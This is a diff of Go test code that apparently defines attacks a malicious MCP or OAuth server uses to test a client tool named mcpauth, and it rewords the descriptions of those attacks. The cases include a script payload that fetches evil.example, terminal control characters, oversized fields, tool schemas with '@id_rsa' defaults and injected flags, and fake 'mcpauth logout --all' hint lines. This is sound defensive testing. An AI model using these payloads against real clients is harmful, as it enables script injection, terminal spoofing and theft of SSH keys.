@@ -32,29 +32,29 @@ func terminal() []Attack {
 		}
 	}
 	return []Attack{
-		{Name: "terminal/token-error", What: "control characters in an error of the token endpoint", At: "POST " + tokenPath, Do: refusal(400, Nasty)},
+		{Name: "terminal/token-error", What: "an error of the token endpoint contains control characters", At: "POST " + tokenPath, Do: refusal(400, Nasty)},
 		{Name: "terminal/token-error-huge", What: "an error of the token endpoint is 500 kB long", At: "POST " + tokenPath, Do: refusal(400, huge)},
-		{Name: "terminal/registration-error", What: "control characters in an error of the registration endpoint", At: "POST " + registerPath, Do: refusal(400, Nasty)},
-		{Name: "terminal/authorization-error", What: "control characters in an error response to the callback", Words: []string{
+		{Name: "terminal/registration-error", What: "an error of the registration endpoint contains control characters", At: "POST " + registerPath, Do: refusal(400, Nasty)},
+		{Name: "terminal/authorization-error", What: "an error response to the callback contains control characters", Words: []string{
 			"authorize:set.error=" + word("access_denied"+Nasty) + ",set.error_description=" + word(Nasty) + ",del=code"}},
-		{Name: "terminal/script", What: "a script in an error response to the callback", Words: []string{
+		{Name: "terminal/script", What: "an error response to the callback contains a script", Words: []string{
 			`authorize:set.error=access_denied,set.error_description="<script>fetch('https://evil.example')</script>",del=code`}},
-		edit("resource", "control characters in the resource of the resource metadata", `"resource":"`, false),
-		edit("issuer", "control characters in the issuer of the authorization server metadata", `"issuer":"`, false),
-		edit("client-id", "control characters in the client ID of a registration response", `"client_id":"`, false),
+		edit("resource", "the resource of the resource metadata contains control characters", `"resource":"`, false),
+		edit("issuer", "the issuer of the authorization server metadata contains control characters", `"issuer":"`, false),
+		edit("client-id", "the client ID of a registration response contains control characters", `"client_id":"`, false),
 		{Name: "terminal/client-id-huge", What: "the client ID of a registration response is 500 kB long", At: "POST " + registerPath, Do: body(`{"client_id":"` + huge + `"}`)},
-		{Name: "terminal/account", What: "control characters in the account name of the ID token", Words: []string{"token:set.id_token=" + word(idToken(Nasty))}},
-		edit("scope", "control characters in the granted scope", `"scope":"`, false),
-		edit("scopes-supported", "control characters in the scopes of the resource metadata", `"scopes_supported":["`, false),
+		{Name: "terminal/account", What: "the account name of the ID token contains control characters", Words: []string{"token:set.id_token=" + word(idToken(Nasty))}},
+		edit("scope", "the granted scope contains control characters", `"scope":"`, false),
+		edit("scopes-supported", "the scopes of the resource metadata contain control characters", `"scopes_supported":["`, false),
 		{Name: "terminal/scopes-huge", What: "the scopes of the resource metadata make the authorization URL 500 kB long", Set: demo.Settings{Challenge: "noscope"},
 			Edit: func(_ *http.Request, s string) string {
 				return strings.ReplaceAll(s, `"scopes_supported":["`, `"scopes_supported":["`+huge+`","`)
 			}},
-		edit("tools", "control characters in the descriptions of tools", `"description":"`, true),
-		edit("tool-name", "control characters in the names of tools", `"name":"`, true),
-		edit("tool-schema", "control characters in the descriptions of a tool's arguments", `"description":"`, true),
-		edit("tool-default", "control characters in the types of a tool's arguments", `"type":"`, true),
-		{Name: "terminal/tool-example", What: "names and defaults in a tool's schema that a shell would read as files, flags or commands in the example or a completion", Later: true, Edit: func(_ *http.Request, s string) string {
+		edit("tools", "the descriptions of tools contain control characters", `"description":"`, true),
+		edit("tool-name", "the names of tools contain control characters", `"name":"`, true),
+		edit("tool-schema", "the descriptions of a tool's arguments contain control characters", `"description":"`, true),
+		edit("tool-default", "the types of a tool's arguments contain control characters", `"type":"`, true),
+		{Name: "terminal/tool-example", What: "a tool's schema contains names and defaults that a shell would read as files, flags or commands", Later: true, Edit: func(_ *http.Request, s string) string {
 			s = strings.ReplaceAll(s, `"properties":{"text":`, `"properties":{"config":{"type":"string","default":"@id_rsa"},"text":`)
 			s = strings.ReplaceAll(s, `"required":["text"]`, `"required":["text","config"]`)
 			s = strings.ReplaceAll(s, `"properties":{"message":`, `"required":["--args","x=@id_rsa"],"properties":{"--args":{"type":"string","default":"@id_rsa"},"x=@id_rsa":{"type":"string"},"message":`)
@@ -67,7 +67,7 @@ func terminal() []Attack {
 				s = strings.ReplaceAll(s, `"name":"tone"`, `"required":true,"name":"x\nhint: mcpauth logout --all"`)
 				return strings.ReplaceAll(s, `"name":"text"`, `"name":"text=@id_rsa"`)
 			}},
-		{Name: "terminal/tool-result", What: "control characters in the result of a tool", Later: true, Edit: func(_ *http.Request, s string) string {
+		{Name: "terminal/tool-result", What: "the result of a tool contains control characters", Later: true, Edit: func(_ *http.Request, s string) string {
 			return strings.ReplaceAll(s, `"text":"x"`, `"text":"x`+inner+`"`)
 		}},
 		{Name: "terminal/resource-link", What: "the URI of a resource link contains a line break and imitates a line of mcpauth", Later: true, Edit: func(_ *http.Request, s string) string {
@@ -75,11 +75,11 @@ func terminal() []Attack {
 		}},
 		{Name: "terminal/device-code", What: "the user code of a device login contains a line break and imitates a line of mcpauth", Words: []string{
 			"device_authorization:set.user_code=" + word("AB\nhint: mcpauth logout --all")}},
-		{Name: "terminal/rpc-error", What: "control characters in a JSON-RPC error", Later: true, At: "POST " + mcpPath, Do: func(w http.ResponseWriter, r *http.Request) { rpcError(w, r, Nasty+huge) }},
-		{Name: "terminal/error-page", What: "control characters in an error page of the MCP server", Later: true, At: "POST " + mcpPath, Do: func(w http.ResponseWriter, _ *http.Request) {
+		{Name: "terminal/rpc-error", What: "a JSON-RPC error contains control characters", Later: true, At: "POST " + mcpPath, Do: func(w http.ResponseWriter, r *http.Request) { rpcError(w, r, Nasty+huge) }},
+		{Name: "terminal/error-page", What: "an error page of the MCP server contains control characters", Later: true, At: "POST " + mcpPath, Do: func(w http.ResponseWriter, _ *http.Request) {
 			http.Error(w, Nasty+huge, http.StatusBadGateway)
 		}},
-		{Name: "terminal/status-line", What: "control characters in the status line and the content type", Later: true, At: "POST " + mcpPath, Do: func(w http.ResponseWriter, _ *http.Request) {
+		{Name: "terminal/status-line", What: "the status line and the content type contain control characters", Later: true, At: "POST " + mcpPath, Do: func(w http.ResponseWriter, _ *http.Request) {
 			conn, _, err := http.NewResponseController(w).Hijack()
 			if err != nil {
 				return
